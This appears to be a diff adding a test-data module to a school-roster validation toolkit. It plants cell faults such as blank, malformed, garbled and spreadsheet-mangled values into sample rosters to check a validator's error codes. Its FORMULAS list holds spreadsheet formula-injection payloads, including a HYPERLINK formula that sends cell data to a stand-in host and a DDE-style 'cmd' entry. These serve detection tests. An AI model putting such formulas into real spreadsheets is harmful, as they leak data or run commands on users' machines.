@@ -1,0 +1,211 @@
+"""Faults of one cell (RT101 to RT111), and what the contract says of each.
+
+An error stands on one row: the cell in error has no vote, so that the person's other rows are not
+in conflict with it. A warning that changes a value is planted on every row of its person, because
+there a difference would be a conflict too.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable
+
+from roster_toolkit.model import Requirement
+from roster_toolkit.samples.canvas import Canvas
+from roster_toolkit.samples.census import Who
+
+#: Texts a spreadsheet leaves behind, of which a profile may know some.
+DAMAGE = ("1.23E+05", "#N/A", "5-Mar", "8.8E+09", "#REF!", "Mar-5", "#NAME?", "1.2E+10", "#####")
+#: Pieces that a wrong encoding or a broken export leaves in a name.
+GARBAGE = ("Ã±", "\ufffd", "â€™", "\x07", "Ã©")
+#: White space and invisible characters around and inside a value.
+STRAY: tuple[Callable[[str], str], ...] = (
+    lambda text: f" {text}",
+    lambda text: f"{text}\u00a0",
+    lambda text: f"{text[:1]}\u200b{text[1:]}",
+    lambda text: f"{text}  ",
+    lambda text: f"\ufeff{text}",
+    lambda text: f"{text[:2]}\u00ad{text[2:]}",
+    lambda text: f"\u2060 {text}",
+)
+MALFORMED: tuple[Callable[[str, str], str], ...] = (
+    lambda local, domain: f"{local}_at_{domain}",
+    lambda local, domain: f"{local}@{domain.split('.')[0]}",
+    lambda local, domain: f"{local}@@{domain}",
+    lambda local, _: f"{local}@",
+    lambda local, domain: f"{local[:2]} {local[2:]}@{domain}",
+    lambda local, domain: f"{local}@{domain},",
+    lambda local, domain: f"{local}..x@{domain}",
+    lambda local, domain: f"ñ{local}@{domain}",
+    lambda local, domain: f"{local}@{domain}.",
+)
+FORMULAS: tuple[Callable[[str], str], ...] = (
+    lambda name: f'=HYPERLINK("https://payload.example/?q="&A2,"{name}")',
+    lambda name: f"+{name}",
+    lambda name: f"-{name}",
+    lambda name: f"@{name}",
+    lambda name: f"=1+1+cmd|'{name}'!A0",
+)
+_BROKEN_IDENTIFIER: tuple[Callable[[str], str], ...] = (
+    lambda text: f"{text[:3]} {text[3:]}",
+    lambda text: f"{text}/1",
+    lambda text: f"{text[:2]}#{text[2:]}",
+    lambda text: f"{text}é",
+    lambda text: f"({text})",
+)
+
+
+def _one_cell(canvas: Canvas, code: str, key: str, text: str, row: int) -> bool:
+    canvas.write([row], key, text)
+    canvas.expect(code, key, [row])
+    return True
+
+
+def _identifiers(canvas: Canvas) -> list[str]:
+    return [c.key for c in canvas.profile.columns.values() if c.kind == "identifier"]
+
+
+def missing_value(canvas: Canvas, turn: int) -> bool:
+    """RT101: a cell that every row must fill is blank."""
+    keys = [column.key for column in canvas.profile.needing(Requirement.REQUIRED)]
+    row = canvas.take_row()
+    return row is not None and _one_cell(canvas, "RT101", keys[turn % len(keys)], "", row)
+
+
+def unaccepted_value(canvas: Canvas, turn: int) -> bool:
+    """RT102: a role, grade, flag or action in other words than the accepted ones."""
+    keys = [c.key for c in canvas.profile.columns.values() if c.vocabulary]
+    column = canvas.profile.columns[keys[turn % len(keys)]]
+    vocabulary = canvas.profile.vocabulary_of(column)
+    if vocabulary is None or (column.key == "userGrade" and not canvas.has_students):
+        return False
+    others = [f"{vocabulary.accepts[0]} ?", "Zzz", "99"]
+    for spellings in (*vocabulary.safe.values(), *vocabulary.likely.values()):
+        others += spellings
+    usable = [t for t in others if canvas.ordinary(t) and t not in vocabulary.accepts]
+    row = canvas.take_row()
+    return row is not None and _one_cell(
+        canvas, "RT102", column.key, canvas.rng.choice(usable), row
+    )
+
+
+def malformed_email(canvas: Canvas, turn: int) -> bool:
+    """RT103: an address that is none."""
+    row = canvas.take_row()
+    if row is None:
+        return False
+    local, _, domain = canvas.value(row, "userEmail").partition("@")
+    return _one_cell(
+        canvas, "RT103", "userEmail", MALFORMED[turn % len(MALFORMED)](local, domain), row
+    )
+
+
+def malformed_identifier(canvas: Canvas, turn: int) -> bool:
+    """RT104: an ID with a character that no ID may hold."""
+    keys = _identifiers(canvas)
+    key = keys[turn % len(keys)]
+    row = canvas.take_row(filled=[key])
+    if row is None:
+        return False
+    spoil = _BROKEN_IDENTIFIER[turn % len(_BROKEN_IDENTIFIER)]
+    return _one_cell(canvas, "RT104", key, spoil(canvas.value(row, key)), row)
+
+
+def stray_whitespace(canvas: Canvas, turn: int) -> bool:
+    """RT105: the value is right once cleaned, so nothing else is said of it."""
+    keys = [key for key in canvas.profile.columns if key not in ("action", "primary_teacher")]
+    key = keys[turn * 5 % len(keys)]
+    row = canvas.take_row(filled=[key])
+    if row is None:
+        return False
+    return _one_cell(canvas, "RT105", key, STRAY[turn % len(STRAY)](canvas.value(row, key)), row)
+
+
+def spreadsheet_damage(canvas: Canvas, turn: int) -> bool:
+    """RT106: a spreadsheet turned the cell into a number, a date or an error."""
+    patterns = canvas.profile.words["spreadsheet_damage"]
+    texts = [t for t in DAMAGE if any(re.search(pattern, t) for pattern in patterns)]
+    keys = [*_identifiers(canvas), "userFirstName", "userGrade", "className", "userEmail"]
+    if not canvas.has_students:
+        keys.remove("userGrade")
+    row = canvas.take_row() if texts else None
+    return row is not None and _one_cell(
+        canvas, "RT106", keys[turn % len(keys)], texts[turn % len(texts)], row
+    )
+
+
+def refused_domain(canvas: Canvas, turn: int) -> bool:
+    """RT107: an address under the vendor's own domain."""
+    starts = canvas.profile.kinds["email"].forbidden_domains
+    row = canvas.take_row() if starts else None
+    if row is None:
+        return False
+    local = canvas.value(row, "userEmail").partition("@")[0]
+    ending = (".com", "-schools.example", "learning.example")[turn % 3]
+    domain = starts[turn % len(starts)] + ending
+    return _one_cell(canvas, "RT107", "userEmail", f"{local}@{domain}", row)
+
+
+def ssn_like_identifier(canvas: Canvas, turn: int) -> bool:
+    """RT108: nine digits, on every row of the person or class so that nothing is in conflict."""
+    key = ("userId", "userStateId", "userDistrictId", "classId")[turn % 4]
+    if key not in canvas.profile.columns:
+        return False
+    rows = (
+        canvas.take_class(at_most=40) if key == "classId" else canvas.take_person(*canvas.anybody)
+    )
+    if rows is None:
+        return False
+    leading = {"userId": 91, "userStateId": 92, "userDistrictId": 93, "classId": 94}[key]
+    canvas.write(rows, key, f"{leading}{rows[0]:07d}")
+    canvas.expect("RT108", key, rows)
+    return True
+
+
+def garbled_text(canvas: Canvas, turn: int) -> bool:
+    """RT109: a name that went through the wrong encoding, on every row of the person."""
+    rows = canvas.take_person(Who.SINGLE, *canvas.anybody)
+    if rows is None:
+        return False
+    key = ("userLastName", "userFirstName")[turn % 2]
+    name, piece = canvas.value(rows[0], key), GARBAGE[turn % len(GARBAGE)]
+    canvas.write(rows, key, name[:2] + piece + name[2:])
+    canvas.expect("RT109", key, rows)
+    return True
+
+
+def placeholder_value(canvas: Canvas, turn: int) -> bool:
+    """RT110: a cell that says "nothing here" instead of being blank."""
+    words = [w for w in canvas.profile.words["placeholders"] if w[:1] not in set("=+-@\t")]
+    addresses = [word for word in words if "@" in word]
+    others = [word for word in words if "@" not in word]
+    keys = ["userLastName", "userEmail", "userDistrictId", "className", "classSubject", "userId"]
+    key = keys[turn % len(keys)]
+    texts = addresses if key == "userEmail" else others
+    row = canvas.take_row() if texts else None
+    if row is None or key not in canvas.profile.columns:
+        return False
+    text = texts[turn % len(texts)]
+    return _one_cell(canvas, "RT110", key, text.upper() if turn % 2 else text, row)
+
+
+def formula_like_value(canvas: Canvas, turn: int) -> bool:
+    """RT111: a name that a spreadsheet would run, on every row of the person.
+
+    A raw cell that begins with a tab is one too; cleaning takes the tab away, which is RT105.
+    """
+    if turn % (len(FORMULAS) + 1) == len(FORMULAS):
+        row = canvas.take_row()
+        if row is None:
+            return False
+        canvas.write([row], "userFirstName", "\t" + canvas.value(row, "userFirstName"))
+        canvas.expect("RT105", "userFirstName", [row])
+        canvas.expect("RT111", "userFirstName", [row])
+        return True
+    rows = canvas.take_person(Who.SINGLE, *canvas.anybody)
+    if rows is None:
+        return False
+    name = canvas.value(rows[0], "userFirstName")
+    canvas.write(rows, "userFirstName", FORMULAS[turn % (len(FORMULAS) + 1)](name))
+    canvas.expect("RT111", "userFirstName", rows)
+    return True
